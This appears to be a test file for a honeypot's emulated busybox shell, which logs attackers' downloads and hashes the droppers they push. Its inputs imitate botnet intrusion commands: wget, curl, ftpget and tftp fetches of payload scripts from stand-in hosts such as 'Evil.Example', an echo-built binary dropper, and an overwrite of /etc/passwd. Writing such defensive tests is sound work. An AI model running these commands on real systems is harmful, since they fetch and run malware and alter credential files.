import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { seededRandom } from '../../util/seeded-random.js';
import { decodeEchoEscapes } from './echo-escapes.js';
import { parseLine } from './shell-parse.js';
import { Shell } from './shell.js';

describe('shell line parsing', () => {
  it('splits words, quotes, chains and redirections as ash does', () => {
    expect(parseLine(`cd /tmp || cd /var; echo "a b" 'c;d' e\\ f > x 2>/dev/null && ./x & `)).toEqual([
      { argv: ['cd', '/tmp'], redirects: [], next: '||' },
      { argv: ['cd', '/var'], redirects: [], next: ';' },
      { argv: ['echo', 'a b', 'c;d', 'e f'], redirects: [{ fd: 1, op: '>', target: 'x' }, { fd: 2, op: '>', target: '/dev/null' }], next: '&&' },
      { argv: ['./x'], redirects: [], next: '&' },
    ]);
  });
});

describe('echo -e escapes', () => {
  it('decodes hex, octal and the named escapes to bytes, and stops at \\c', () => {
    expect(Buffer.from(decodeEchoEscapes('\\x7f\\x45LF\\0101\\101\\n\\t\\\\').text, 'latin1')).toEqual(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x41, 0x41, 0x0a, 0x09, 0x5c]));
    expect(decodeEchoEscapes('ab\\cde')).toEqual({ text: 'ab', stop: true });
  });
});

describe('the shell', () => {
  it('answers busybox checks, and records downloads without fetching them', () => {
    const sh = new Shell();
    expect(sh.run('/bin/busybox ECCHI').output).toBe('ECCHI: applet not found\n');
    expect(sh.run('/bin/busybox XYZZY').known).toBe(false);
    expect(sh.run('foo').output).toBe('sh: foo: not found\n');
    expect(sh.run('uname -a').output).toContain('armv7l');
    const d = sh.run('cd /tmp; wget 203.0.113.5/x.sh; curl -s http://Evil.Example:8080/y; ftpget -u a -p b 203.0.113.6 l.bin r.bin; busybox tftp -r t.arm -g 203.0.113.7 6969');
    expect(d.events.map((e) => [e.url, e.url_host])).toEqual([
      ['http://203.0.113.5/x.sh', '203.0.113.5'],
      ['http://Evil.Example:8080/y', 'evil.example'],
      ['ftp://203.0.113.6/r.bin', '203.0.113.6'],
      ['tftp://203.0.113.7:6969/t.arm', '203.0.113.7'],
    ]);
    expect(d.output).toContain('tftp: timeout');
  });

  it('hashes a pushed dropper when it is executed, once per content, and the rest at the end', () => {
    const sh = new Shell();
    sh.run("echo -ne '\\x01\\x02' > /tmp/a; echo -ne '\\x03' >> /tmp/a");
    const run = sh.run('/tmp/a');
    const sha = createHash('sha256').update(Buffer.from([1, 2, 3])).digest('hex');
    expect(run.events).toEqual([{ kind: 'upload', input: '/tmp/a', sha256: sha, size: 3, detail: JSON.stringify({ path: '/tmp/a', trigger: 'exec' }) }]);
    expect(sh.run('chmod +x /tmp/a').events).toEqual([]);
    sh.run("echo -n zz > /var/b; echo q > /etc/passwd");
    expect(sh.run('cat /etc/passwd').output).toContain('root:x:0:0');
    expect(sh.finish().map((e) => [e.size, JSON.parse(e.detail).trigger])).toEqual([[2, 'close']]);
  });

  it('caps pushed files and their number, and never throws on garbage (fixed seed)', () => {
    const sh = new Shell({ keepBytes: 16, maxFileBytes: 100, maxFiles: 2 });
    expect(sh.run(`echo ${'x'.repeat(200)} > /tmp/big`).output).toContain('No space left on device');
    sh.run('echo 1 > /tmp/c');
    expect(sh.run('echo 1 > /tmp/d').output).toContain('No space left on device');
    expect(sh.finish()[0]?.size).toBe(100);
    const rand = seededRandom(7);
    const alphabet = ' ;&|><\'"\\$`()#-x/01\x00\xff';
    for (let n = 0; n < 3000; n++) {
      let line = '';
      for (let i = Math.floor(rand() * 80); i > 0; i--) line += alphabet[Math.floor(rand() * alphabet.length)];
      expect(typeof new Shell().run(line).output).toBe('string');
    }
  });
});
